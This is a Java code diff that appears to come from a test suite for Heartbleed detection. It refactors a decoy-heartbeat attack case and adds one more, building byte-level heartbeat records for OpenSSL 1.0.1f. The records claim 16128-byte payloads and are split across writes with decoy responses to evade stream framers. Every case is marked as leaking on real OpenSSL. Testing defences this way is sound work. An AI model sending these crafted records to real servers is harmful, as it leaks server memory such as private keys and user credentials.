@@ -61,6 +61,21 @@ record Attack(String name, String does, byte[] opening, List<byte[]> pieces, Dur
     }
   }
 
+  /**
+   * An attack with a decoy that runs past its record. 1.0.1f reads the attack 18 0303 000b | 01 3f00 (claims 16128) |
+   * 18 0302 3f13 01 3f00, then a well-formed heartbeat response of 16144 bytes, which it ignores (no heartbeat of its
+   * own is pending). A framer that starts 8 bytes in reads one well-formed request 18 0302 3f13 | 01 3f00 | 16128
+   * bytes of payload, 16 of padding, whose payload_length is exactly the leaking answer's. {@link #DECOYED_ATTACK}'s
+   * first 8 bytes go with the hello, {@link #DECOY_REST} is the next write.
+   */
+  private static final int DECOY_CLAIM = 0x3f00;
+  private static final byte[] DECOYED_ATTACK = record(HEARTBEAT, concat(heartbleedMessage(DECOY_CLAIM),
+      new byte[] {HEARTBEAT, 3, 2, (byte) ((3 + DECOY_CLAIM + 16) >>> 8), (byte) (3 + DECOY_CLAIM + 16)},
+      heartbleedMessage(DECOY_CLAIM)));
+  private static final byte[] DECOY_REST = concat(Arrays.copyOfRange(DECOYED_ATTACK, 8, DECOYED_ATTACK.length),
+      record(HEARTBEAT, HeartbeatMessage.response(Bytes.repeat('R', DECOY_CLAIM - 8), Bytes.repeat(0, 16))
+          .toByteArray()));
+
   /** Between the pieces of a split case: long enough for each piece to arrive as its own segment and read. */
   private static final Duration SPLIT_GAP = Duration.ofMillis(20);
 
@@ -103,19 +118,12 @@ record Attack(String name, String does, byte[] opening, List<byte[]> pieces, Dur
     // ignores (no heartbeat of its own is pending). A framer that starts at the second write reads one well-formed
     // request 18 0302 3f13 | 01 3f00 | 16128 bytes of payload, 16 of padding, whose payload_length is exactly the
     // leaking answer's.
-    int claim = 0x3f00;
-    byte[] decoyStart = concat(new byte[] {HEARTBEAT, 3, 2, (byte) ((3 + claim + 16) >>> 8), (byte) (3 + claim + 16)},
-        heartbleedMessage(claim));
-    byte[] attackRecord = record(HEARTBEAT, concat(heartbleedMessage(claim), decoyStart));
-    byte[] ignoredResponse = record(HEARTBEAT, HeartbeatMessage.response(Bytes.repeat('R', claim - 8),
-        Bytes.repeat(0, 16)).toByteArray());
     all.add(new Attack("sslv2_hello_then_decoy_heartbeat_across_records",
         "SSLv2-compatible ClientHello plus the first 8 bytes of an 11-byte heartbeat record claiming 16128; next write:"
             + " its rest, then a heartbeat response 1.0.1f ignores. Framed from that write: one well-formed request"
             + " declaring 16128",
-        concat(sslv2ClientHello(ProtocolVersion.TLS1_2), Arrays.copyOf(attackRecord, 8)),
-        List.of(concat(Arrays.copyOfRange(attackRecord, 8, attackRecord.length), ignoredResponse)), SPLIT_GAP,
-        OnRealOpenSsl.LEAKS));
+        concat(sslv2ClientHello(ProtocolVersion.TLS1_2), Arrays.copyOf(DECOYED_ATTACK, 8)), List.of(DECOY_REST),
+        SPLIT_GAP, OnRealOpenSsl.LEAKS));
 
     // Records under 3 bytes: tls1_process_heartbeat reads type and payload_length without checking the record's
     // length, so payload_length comes from what the previous record left in the read buffer: here an honest
@@ -147,6 +155,13 @@ record Attack(String name, String does, byte[] opening, List<byte[]> pieces, Dur
           String.format("ClientHello in a record of version 0x%04x, the classic request in the same write", version),
           concat(clientHello(version), heartbleed(CLAIM)), List.of(), Duration.ZERO, OnRealOpenSsl.LEAKS));
     }
+
+    all.add(new Attack("first_record_version_03ff_then_decoy_heartbeat_across_records",
+        "ClientHello in a record of version 0x03ff plus the first 8 bytes of an 11-byte heartbeat record claiming"
+            + " 16128; next write: its rest, then a heartbeat response 1.0.1f ignores. Framed from that write: one"
+            + " well-formed request declaring 16128",
+        concat(clientHello(0x03ff), Arrays.copyOf(DECOYED_ATTACK, 8)), List.of(DECOY_REST), SPLIT_GAP,
+        OnRealOpenSsl.LEAKS));
 
     int ssl3 = ProtocolVersion.SSL3_0.code();
     all.add(new Attack("sslv3_session_then_heartbleed",
